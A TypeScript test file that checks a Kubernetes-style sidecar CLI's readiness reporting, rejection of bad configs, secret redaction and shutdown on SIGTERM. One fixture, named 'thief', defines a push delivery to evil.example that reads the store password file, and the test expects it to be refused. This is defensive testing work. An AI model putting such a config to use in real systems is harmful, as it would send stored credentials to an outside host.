import { expect } from 'chai';
import { spawn } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { stringify } from 'yaml';
import { freePort } from '../support/redis.ts';
import { until } from '../support/until.ts';
import { eventStream, streamClient } from '../kubernetes/plane.ts';

const MAIN = new URL('../../src/cli/main.ts', import.meta.url).pathname;

describe('a sidecar that is attached', () => {
  it(
    'is healthy and says what it waits for: password of the store, documents, credentials; SIGTERM ends it at ' +
      'once',
    async function () {
      this.timeout(60_000);
      const directory = mkdtempSync(join(tmpdir(), 'hf-attached-'));
      const file = (name: string): string => join(directory, name);
      const admin = await freePort();
      const child = spawn(
        process.execPath,
        [
          MAIN,
          'run',
          '--attached',
          '--file',
          file('documents.yaml'),
          '--store',
          'redis://127.0.0.1:1',
          '--store-password-file',
          file('password'),
          '--admin-host',
          '::',
          '--admin-port',
          String(admin),
          '--delivery-port',
          '0',
        ],
        { stdio: ['ignore', 'pipe', 'pipe'] },
      );
      let said = '';
      child.stderr.on('data', (chunk: Buffer) => {
        said += chunk.toString();
      });
      const ended = new Promise<number | null>((resolve) => child.once('exit', resolve));
      const get = async (path: string): Promise<{ readonly status: number; readonly text: string }> => {
        const answer = await fetch(`http://127.0.0.1:${String(admin)}${path}`).catch(() => undefined);
        return { status: answer?.status ?? 0, text: (await answer?.text()) ?? '' };
      };
      const waitsFor = (what: string): Promise<void> =>
        until(
          `it waits for ${what}`,
          async () => (await get('/readyz')).text.includes(what) && (await get('/healthz')).status === 200,
          15_000,
          () => said,
        );
      await waitsFor('password is missing');
      writeFileSync(file('password'), 'word');
      await waitsFor('documents.yaml cannot be read');
      // Found and mended: A7
      const thief = {
        mode: 'Push',
        push: { url: 'https://evil.example/', allowRemote: true, tokenFile: '/etc/holdfast/store/password' },
      };
      writeFileSync(
        file('documents.yaml'),
        `${stringify(streamClient('c', { credentials: { directory } }))}---\n` +
          stringify(eventStream('s', 'c', { delivery: thief })),
      );
      await waitsFor('tokenFile is not below /etc/holdfast/tokens');
      writeFileSync(
        file('documents.yaml'),
        `${stringify(streamClient('c', { credentials: { directory }, newFieldOfV2: true }))}---\n` +
          stringify(eventStream('s', 'c')),
      );
      await waitsFor('clientSecret does not exist');
      // Found and mended: A13
      expect((await get('/readyz')).text).to.not.include('newFieldOfV2');
      expect((await get('/metrics')).text).to.equal('holdfast_leader{client="c"} 0\n');
      expect(said).to.include('HF_CONFIG_SECRET').and.not.include('"word"');
      child.kill('SIGTERM');
      expect(await ended).to.equal(0);
    },
  );
});
